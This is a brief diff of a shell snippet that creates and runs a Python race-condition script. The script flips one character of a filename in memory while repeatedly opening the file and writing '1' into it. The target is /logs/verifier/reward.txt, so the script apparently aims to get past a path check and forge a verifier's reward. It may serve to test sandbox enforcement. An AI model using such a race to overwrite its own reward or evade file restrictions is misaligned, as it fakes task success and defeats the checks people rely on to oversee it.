@@ -3,12 +3,11 @@
 cat >/tmp/race.py <<'END'
 import ctypes, threading, time
 libc = ctypes.CDLL(None)
-good, bad = b"/tmp/aaaaaaaa/bbbbbb.ccc\0", b"/logs/verifier/reward.txt"
-name = ctypes.create_string_buffer(good, 64)
+name = ctypes.create_string_buffer(b"/logs/verifier/reward.txt")
 def flip():
     while True:
-        name.value = bad
-        name.value = good
+        name[24] = b"x"
+        name[24] = b"t"
 threading.Thread(target=flip, daemon=True).start()
 end = time.time() + 5
 while time.time() < end:
@@ -17,6 +16,5 @@ while time.time() < end:
         libc.write(fd, b"1\n", 2)
         libc.close(fd)
 END
-mkdir -p /tmp/aaaaaaaa
 daemon 'exec python3 /tmp/race.py'
 sleep 0.3
